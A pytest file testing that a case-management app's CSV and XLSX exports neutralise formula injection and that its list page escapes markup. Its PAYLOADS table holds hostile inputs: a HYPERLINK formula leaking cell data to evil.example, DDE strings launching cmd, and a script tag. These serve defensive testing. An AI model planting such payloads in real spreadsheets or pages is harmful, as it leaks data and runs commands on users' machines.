"""Formula injection (CSV injection) in the CSV and XLSX exports, and markup in the list page.

A cell a spreadsheet would run (starting with =, +, -, @, tab or carriage return) is prefixed with a
single quote (OWASP's advice) in both formats, and in XLSX every cell is a string, never a formula.
The payloads are written straight into the rows: forms strip leading whitespace and refuse markup,
but rows also come from imports, the admin and older versions."""

import csv
import io
import zipfile

import pytest
import time_machine
from openpyxl import load_workbook

from cases.models import Case
from tests.support.data import submit

from .conftest import local

PERIOD = "from=2026-05-01&to=2026-05-31"
PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "dde": '=cmd|"/C calc"!A0',
}
# Column of each field in the personal export (see stats.exports._header).
COLUMNS = {"description": 9, "name": 10, "address": 12}


def _case_with(field: str, payload: str) -> Case:
    with time_machine.travel(local(2026, 5, 10, 10, 0), tick=False):
        case = submit(phone="13900001111")
    Case.objects.filter(pk=case.pk).update(**{field: payload})
    return case


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
@pytest.mark.parametrize("field", COLUMNS)
def test_csv_cells_are_neutralised(supervisor_client, users, field, payload):
    _case_with(field, payload)
    response = supervisor_client.get(f"/supervisor/cases.csv?{PERIOD}&personal=1")
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(content)))
    assert len(row) == len(header)  # quotes and line breaks inside a cell stay inside it
    assert row[COLUMNS[field]] == "'" + payload
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
@pytest.mark.parametrize("field", COLUMNS)
def test_xlsx_cells_are_neutralised_strings(supervisor_client, users, field, payload):
    _case_with(field, payload)
    response = supervisor_client.get(f"/supervisor/cases.xlsx?{PERIOD}&personal=1")
    sheet = load_workbook(io.BytesIO(response.content)).active
    _header, row = list(sheet.iter_rows())
    cell = row[COLUMNS[field]]
    assert cell.value == "'" + payload.replace("\r", "\n")  # XML reads a bare CR back as LF
    assert cell.data_type == "s"
    assert all(c.data_type != "f" for c in row)
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_harmless_text_is_exported_unchanged(supervisor_client, users):
    _case_with("description", "楼道灯不亮 = 很危险 😱 𠮷")
    response = supervisor_client.get(f"/supervisor/cases.csv?{PERIOD}")
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(content)))[1][9] == "楼道灯不亮 = 很危险 😱 𠮷"


def test_markup_in_the_case_list_page_is_escaped(supervisor_client, users):
    _case_with("description", '<script>alert("x")</script>')
    page = supervisor_client.get(f"/supervisor/cases?{PERIOD}").content.decode()
    assert "<script>alert" not in page
